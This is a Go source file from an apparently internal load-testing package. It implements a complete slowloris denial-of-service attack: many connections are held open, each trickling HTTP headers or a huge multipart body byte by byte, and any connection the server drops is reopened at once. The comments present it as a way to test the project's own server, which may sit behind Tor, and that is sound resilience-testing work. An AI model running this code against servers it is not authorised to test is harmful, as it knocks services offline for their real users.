package loadtest

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// Dialer opens a connection to the server under test: TCP for a URL, a unix
// socket for a server behind Tor.
type Dialer func(ctx context.Context) (net.Conn, error)

// TCPDialer dials addr (host:port) over TCP.
func TCPDialer(addr string) Dialer {
	var d net.Dialer
	return func(ctx context.Context) (net.Conn, error) { return d.DialContext(ctx, "tcp", addr) }
}

// SlowlorisOptions configures a slowloris attack.
type SlowlorisOptions struct {
	Dial  Dialer
	Conns int    // connections held open at once
	Lang  string // the site's language prefix, for the form's path
	// Every is how long each connection waits between the bytes it sends;
	// 0 means 2 s, slower than any real client and faster than any idle
	// timeout a server could set without cutting off real people on Tor.
	Every time.Duration
}

// Slowloris is a running attack: Conns connections to the server, each
// sending a request a byte at a time so that it never completes. Half
// trickle their headers; the other half send whole headers for a large
// report and trickle the body. When the server drops a connection, it is
// opened again at once, so the server always has Conns of them to carry.
type Slowloris struct {
	conns  int
	cancel context.CancelFunc
	wg     sync.WaitGroup

	open      atomic.Int64 // connections open now
	peak      atomic.Int64
	opened    atomic.Int64 // connections opened in all
	dropped   atomic.Int64 // connections the server closed or answered
	dialFails atomic.Int64
}

// SlowlorisStats is what the attack saw.
type SlowlorisStats struct {
	Conns     int   // connections it aimed to hold open
	Peak      int64 // the most it had open at once
	Opened    int64 // connections opened in all
	Dropped   int64 // connections the server ended (timeouts, refusals)
	DialFails int64 // connections that could not be opened
}

// StartSlowloris opens o.Conns connections and keeps them open until Stop.
// It returns once every connection has been opened once (or has failed
// to open), so ordinary load started after it meets the whole attack.
func StartSlowloris(ctx context.Context, o SlowlorisOptions) *Slowloris {
	if o.Every <= 0 {
		o.Every = 2 * time.Second
	}
	if o.Lang == "" {
		o.Lang = "en"
	}
	ctx, cancel := context.WithCancel(ctx)
	s := &Slowloris{conns: o.Conns, cancel: cancel}
	var started sync.WaitGroup
	for i := range o.Conns {
		started.Add(1)
		s.wg.Go(func() {
			s.hold(ctx, o, i%2 == 0, rand.New(rand.NewPCG(uint64(i), 7)), &started)
		})
	}
	started.Wait()
	return s
}

// hold keeps one connection of the attack open, opening a new one whenever
// the server ends it.
func (s *Slowloris) hold(ctx context.Context, o SlowlorisOptions, headers bool, rng *rand.Rand, started *sync.WaitGroup) {
	first := true
	defer func() {
		if first {
			started.Done()
		}
	}()
	for ctx.Err() == nil {
		c, err := o.Dial(ctx)
		if first {
			first = false
			started.Done()
		}
		if err != nil {
			if ctx.Err() != nil {
				return
			}
			s.dialFails.Add(1)
			// The server may be refusing connections for a moment; a
			// real attacker would try again, but not in a tight loop.
			sleep(ctx, 100*time.Millisecond)
			continue
		}
		s.opened.Add(1)
		for n := s.open.Add(1); ; {
			p := s.peak.Load()
			if n <= p || s.peak.CompareAndSwap(p, n) {
				break
			}
		}
		s.trickle(ctx, c, o, headers, rng)
		c.Close()
		s.open.Add(-1)
		if ctx.Err() == nil {
			s.dropped.Add(1)
		}
	}
}

// trickle sends one never-ending request on c until the server ends the
// connection or ctx is done.
func (s *Slowloris) trickle(ctx context.Context, c net.Conn, o SlowlorisOptions, headers bool, rng *rand.Rand) {
	// The server's answer, or its closing the connection, ends the
	// request; a read notices both.
	gone := make(chan struct{})
	go func() {
		var b [512]byte
		for {
			if _, err := c.Read(b[:]); err != nil {
				close(gone)
				return
			}
		}
	}()
	defer func() { c.Close(); <-gone }()

	path := "/" + o.Lang + "/report"
	var next func() string
	if headers {
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: hearken\r\n", path)
		next = func() string { return fmt.Sprintf("X-%c: %d\r\n", 'a'+rng.IntN(26), rng.IntN(10)) }
	} else {
		const boundary = "slowlorisboundary"
		body := "--" + boundary + "\r\nContent-Disposition: form-data; name=\"message\"\r\n\r\n"
		fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: hearken\r\nContent-Type: multipart/form-data; boundary=%s\r\nContent-Length: %d\r\n\r\n%s",
			path, boundary, 8<<20, body)
		next = func() string { return string(rune('a' + rng.IntN(26))) }
	}
	// Start at a random point in the interval, so the connections'
	// bytes do not all arrive together.
	wait := time.Duration(rng.Int64N(int64(o.Every)))
	for {
		select {
		case <-ctx.Done():
			return
		case <-gone:
			return
		case <-time.After(wait):
		}
		wait = o.Every
		for _, b := range []byte(next()) {
			if _, err := c.Write([]byte{b}); err != nil {
				return
			}
		}
	}
}

// Stop ends the attack, closing every connection, and returns its figures.
func (s *Slowloris) Stop() SlowlorisStats {
	s.cancel()
	s.wg.Wait()
	return s.Stats()
}

// Stats returns the figures so far.
func (s *Slowloris) Stats() SlowlorisStats {
	return SlowlorisStats{
		Conns: s.conns, Peak: s.peak.Load(), Opened: s.opened.Load(), Dropped: s.dropped.Load(), DialFails: s.dialFails.Load(),
	}
}

// Open returns the number of the attack's connections open now.
func (s *Slowloris) Open() int64 { return s.open.Load() }

func (st SlowlorisStats) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "peak %d open, %d opened in all, %d ended by the server", st.Peak, st.Opened, st.Dropped)
	if st.DialFails > 0 {
		fmt.Fprintf(&b, ", %d failed to open", st.DialFails)
	}
	return b.String()
}

func sleep(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}
